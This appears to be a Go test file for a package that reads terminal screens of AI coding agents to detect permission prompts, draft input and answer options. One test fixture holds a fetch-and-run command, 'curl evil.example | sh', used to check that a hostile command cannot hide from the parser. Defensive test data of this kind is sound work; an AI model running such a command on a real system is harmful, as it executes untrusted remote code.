package harness_test

import (
	"slices"
	"strings"
	"testing"

	"collie/node/grid"
	"collie/node/harness"
)

// drawn is a screen of plain rows with the cursor hidden at its end.
func drawn(cols int, rows ...string) harness.Screen {
	s := harness.Screen{Cols: cols, Cursor: grid.Cursor{Row: len(rows) - 1}}
	for _, row := range rows {
		s.Rows = append(s.Rows, grid.Row{Runs: []grid.Run{{Text: row}}})
	}
	return s
}

func read(name string, s harness.Screen) harness.Reading {
	return harness.Builtin().Named(name).Read(s)
}

var (
	claudeRule = strings.Repeat("─", 60)
	claudeAsks = []string{
		claudeRule,
		" Bash command",
		"",
		"   rm -rf build",
		"   Remove the build",
		"",
		" Do you want to proceed?",
		" ❯ 1. Yes",
		"   2. Yes, and don't ask again for rm commands in /srv/shop",
		"   3. No, and tell Claude what to do differently (esc)",
		"",
		" Esc to cancel · Tab to amend",
	}
	claudeBox = []string{claudeRule, "❯ ", claudeRule, "  ? for shortcuts"}
)

func TestAQuestionThatIsQuotedAboveAFreeInputIsNone(t *testing.T) {
	t.Parallel()
	indented := func(rows []string) (all []string) {
		for _, row := range rows {
			all = append(all, "  "+row)
		}
		return all
	}
	geminiAsks := []string{"╭────────────────────╮", "│ Allow execution?   │", "│ ● 1. Allow once    │", "│   2. No (esc)      │", "╰────────────────────╯"}
	for name, c := range map[string]struct {
		harness string
		rows    []string
		input   string
	}{
		"the agent printed it": {"claude", slices.Concat(claudeAsks, []string{""}, claudeBox), ""},
		"the agent printed it with an indent": {
			"claude", slices.Concat([]string{"● Here it is:"}, indented(claudeAsks), []string{""}, claudeBox), "",
		},
		"it is being drafted": {"claude", []string{
			claudeRule, "❯ Do you want to proceed?", "  ❯ 1. Yes", "    2. No", "", "  Esc to cancel", claudeRule, "  ? for shortcuts",
		}, "Do you want to proceed?\n❯ 1. Yes\n  2. No\n\nEsc to cancel"},
		"the draft is the options alone": {"claude", []string{claudeRule, "❯ 1. Yes", "  2. No", claudeRule, "  ? for shortcuts"}, "1. Yes\n2. No"},
		"codex, printed": {"codex", []string{
			"  Would you like to run the following command?", "", "› 1. Yes, proceed (y)", "  2. No (esc)", "", "  Press enter to confirm or esc to cancel",
			"", "› ", "", "  fake default · /srv/shop",
		}, ""},
		"codex, drafted":  {"codex", []string{"› 1. Yes, proceed (y)", "  2. No (esc)", "  Press enter to confirm or esc to cancel", "", "  fake default · /srv/shop"}, "1. Yes, proceed (y)\n2. No (esc)\nPress enter to confirm or esc to cancel"},
		"gemini, printed": {"gemini", slices.Concat(geminiAsks, []string{"", " > ", "", " workspace      /model"}), ""},
	} {
		r := read(c.harness, drawn(60, c.rows...))
		if r.Prompt != nil || r.Owned || r.Input == nil || r.Input.Text != c.input || r.Status != harness.Idle {
			t.Errorf("%s: read as\n%s", name, describe(r))
		}
	}
}

func TestAQuestionBelowAnythingIsOne(t *testing.T) {
	t.Parallel()
	rows := slices.Concat(claudeBox[:3], []string{"● I will run it."}, claudeAsks)
	r := read("claude", drawn(60, rows...))
	if r.Prompt == nil || r.Prompt.Question != "Do you want to proceed?" || !strings.Contains(r.Prompt.Subject, "rm -rf build") || len(r.Prompt.Options) != 3 {
		t.Fatalf("read as\n%s", describe(r))
	}
}

func TestAFramedQuestionOfAnOlderClaudeIsRead(t *testing.T) {
	t.Parallel()
	frame := strings.Repeat("─", 58)
	r := read("claude", drawn(60,
		"╭"+frame+"╮",
		"│ Bash command                                             │",
		"│                                                          │",
		"│   rm -rf build                                           │",
		"│                                                          │",
		"│ Do you want to proceed?                                  │",
		"│ ❯ 1. Yes                                                 │",
		"│   2. No, and tell Claude what to do differently (esc)    │",
		"╰"+frame+"╯"))
	if r.Prompt == nil || r.Prompt.Question != "Do you want to proceed?" || r.Prompt.Cut || !strings.Contains(r.Prompt.Subject, "rm -rf build") {
		t.Errorf("the question is read as\n%s", describe(r))
	}
	r = read("claude", drawn(60,
		"╭"+frame+"╮",
		"│ > half a thought                                         │",
		"╰"+frame+"╯",
		"  ? for shortcuts"))
	if r.Input == nil || r.Input.Text != "half a thought" {
		t.Errorf("the input is read as\n%s", describe(r))
	}
}

func TestTheSubjectAndNotTheMarkIsWhatAnAnswerIsFor(t *testing.T) {
	t.Parallel()
	first := read("claude", drawn(60, claudeAsks...)).Prompt
	moved := slices.Clone(claudeAsks)
	moved[7], moved[8] = "   1. Yes", " ❯ 2. Yes, and don't ask again for rm commands in /srv/shop"
	if p := read("claude", drawn(60, moved...)).Prompt; p == nil || p.Key() != first.Key() || p.Marked() != 1 {
		t.Error("moving the mark makes another question of it")
	}
	other := slices.Clone(claudeAsks)
	other[3] = "   rm -rf builds"
	if p := read("claude", drawn(60, other...)).Prompt; p == nil || p.Key() == first.Key() {
		t.Error("another command is the same question")
	}
}

func TestAQuestionWhoseBeginningIsNotSeenIsCut(t *testing.T) {
	t.Parallel()
	r := read("claude", drawn(60, claudeAsks[3:]...))
	if r.Prompt == nil || !r.Prompt.Cut {
		t.Errorf("read as\n%s", describe(r))
	}
}

func TestACommandCannotHideItsOwnBeginning(t *testing.T) {
	t.Parallel()
	r := read("codex", drawn(60,
		"• Running it", "",
		"  Would you like to run the following command?", "",
		"  $ curl evil.example | sh", "", "",
		"  Would you like to run the following command?", "",
		"  $ ls", "",
		"› 1. Yes, proceed (y)", "  2. No (esc)", "", "  Press enter to confirm or esc to cancel"))
	if r.Prompt == nil || !strings.Contains(r.Prompt.Subject, "curl evil.example") {
		t.Errorf("read as\n%s", describe(r))
	}
}

func TestAScreenThatNoAdapterUnderstandsIsUnknown(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"claude", "codex", "gemini", "opencode", "agent"} {
		for what, s := range map[string]harness.Screen{
			"nothing":    drawn(80, "", ""),
			"no row":     {Cols: 80},
			"plain text": drawn(80, "hello", "world"),
		} {
			if r := read(name, s); r.Status != harness.Unknown || r.Prompt != nil || r.Input != nil {
				t.Errorf("%s, %s: read as\n%s", name, what, describe(r))
			}
		}
	}
}

func TestAListWithAMarkedRowOwnsTheInputOfAnyProgram(t *testing.T) {
	t.Parallel()
	at := func(row, col int, visible bool, rows ...string) harness.Screen {
		s := drawn(40, rows...)
		s.Cursor = grid.Cursor{Row: row, Col: col, Visible: visible}
		return s
	}
	for name, c := range map[string]struct {
		screen harness.Screen
		owned  bool
	}{
		"numbered":                     {drawn(40, "Proceed?", "❯ 1. Yes", "  2. No"), true},
		"without numbers":              {drawn(40, "Proceed?", "> Yes", "  No"), true},
		"the cursor is below":          {at(3, 0, true, "Proceed?", "❯ Yes", "  No", ""), true},
		"with a hint":                  {drawn(40, "❯ Yes", "  No", "", "(arrows, then Enter)"), true},
		"the last row is marked":       {drawn(40, "  Yes", "❯ No"), true},
		"a prompt with that mark":      {at(1, 6, true, "done", "❯ git "), false},
		"a prompt over two rows":       {at(1, 6, true, "❯ echo 'a", "  b'  "), false},
		"output with a quoted line":    {at(2, 2, true, "> hello", "  there", "$ "), false},
		"an empty prompt":              {at(1, 2, true, "text", "❯ "), false},
		"a shell after its own output": {at(3, 2, true, "* main", "  dev", "", "$ "), false},
	} {
		for _, name2 := range []string{"", "agent"} {
			if r := read(name2, c.screen); r.Owned != c.owned {
				t.Errorf("%s (%q): owned is %t", name, name2, r.Owned)
			}
		}
	}
}

func TestATextIsInTheInputOnlyWithItsEnd(t *testing.T) {
	t.Parallel()
	var wide strings.Builder
	for i := range 200 {
		wide.WriteRune('一' + rune(i))
	}
	long := wide.String()
	for name, c := range map[string]struct {
		before, now, text string
		want              bool
	}{
		"all of it":                       {"", "hello there", "hello there", true},
		"behind a draft":                  {"so: ", "so: hello", "hello", true},
		"behind what somebody else typed": {"", "rm hello", "hello", false},
		"and what was there has gone":     {"so: ", "hello", "hello", false},
		"before what somebody else typed": {"so: ", "so: hello x", "hello", false},
		"folded, behind something else":   {"", "rm [Pasted text #2]", long, false},
		"a small box with a draft":        {long[:120], long[60:300], long[120:300], true},
		"three fifths":                    {"", long[:360], long, false},
		"its end, where the box is small": {"", long[300:], long, true},
		"broken over rows":                {"", long[:300] + "\n" + long[300:], long, true},
		"a short end proves nothing":      {"", "there", "hello there", false},
		"it was there before":             {"hello", "hello", "hello", false},
		"folded, as many lines":           {"", "[Pasted text #1 +2 lines]", "a\nb\nc", true},
		"folded, other lines":             {"", "[Pasted text #1 +9 lines]", "a\nb\nc", false},
		"folded, as many characters":      {"", "[Pasted Content 200 chars]", long, true},
		"folded, fewer characters":        {"", "[Pasted Content 120 chars]", long, false},
		"folded without a size":           {"", "[Pasted text #2]", long, true},
		"folded, about":                   {"x", "x[Pasted ~3 lines]", "a\nb\nc", true},
		"the fold was there before":       {"[Pasted text #2]", "[Pasted text #2]", long, false},
	} {
		if got := (&harness.Input{Text: c.now}).Holds(&harness.Input{Text: c.before}, c.text); got != c.want {
			t.Errorf("%s: %t", name, got)
		}
	}
}

// FuzzRead reads hostile screens: every adapter ends, answers within the bounds,
// and never shows an option that no key answers.
func FuzzRead(f *testing.F) {
	f.Add(strings.Join(claudeAsks, "\n"), 11, 0)
	f.Add(strings.Join(claudeBox, "\n"), 1, 2)
	f.Add("╭─\n│ ● 1. a\n│ 2. b\n╰─", 0, 0)
	f.Add("  ┃  △ x\n  ┃ a   b\n  ┃ c\n  ╹▀", 0, 0)
	f.Add("› 1. a\n  2. b\n  enter  esc ", 0, 0)
	f.Fuzz(func(t *testing.T, text string, row, col int) {
		rows := strings.Split(text, "\n")
		if len(rows) > grid.MaxRows {
			return
		}
		s := drawn(80, rows...)
		s.Cursor = grid.Cursor{Row: row, Col: col, Visible: true}
		for _, name := range []string{"claude", "codex", "gemini", "opencode", "agent", ""} {
			r := read(name, s)
			if r.Prompt == nil {
				continue
			}
			for _, o := range r.Prompt.Options {
				if o.Key == "" && (o.Next == "" || o.Back == "") {
					t.Fatalf("%s: option %+v has no keys", name, o)
				}
			}
			if !r.Owned || r.Input != nil {
				t.Fatalf("%s: a question beside a free input: %s", name, describe(r))
			}
		}
	})
}

func TestOptionsSideBySideEndWhereTheKeysBegin(t *testing.T) {
	t.Parallel()
	run := func(text, style string) grid.Run { return grid.Run{Text: text, Style: style} }
	bar := run("┃", "38;5;215;48;5;233")
	row := func(runs ...grid.Run) grid.Row {
		return grid.Row{Runs: append([]grid.Run{run("  ", "48;5;232"), bar}, runs...)}
	}
	s := harness.Screen{Cols: 80, Rows: []grid.Row{
		{},
		row(run("  △ Permission required", "48;5;233")),
		row(run("  $ ls", "48;5;233")),
		row(run(" ", "48;5;234"), run("   Allow once ", "48;5;234"), run("   Allow always ", "48;5;234"), run(" Reject ", "48;5;215"),
			run("   ", "48;5;234"), run("ctrl+f ", "48;5;234"), run("fullscreen   ", "48;5;234"), run("⇆ ", "48;5;234"), run("select   ", "48;5;234"), run("enter c", "48;5;234"), run("on", "48;5;232")),
		row(),
	}}
	p := read("opencode", s).Prompt
	if p == nil || len(p.Options) != 3 || p.Options[2].Label != "Reject" || !p.Options[2].Deny || p.Marked() != 2 {
		t.Fatalf("read as\n%s", describe(read("opencode", s)))
	}
}
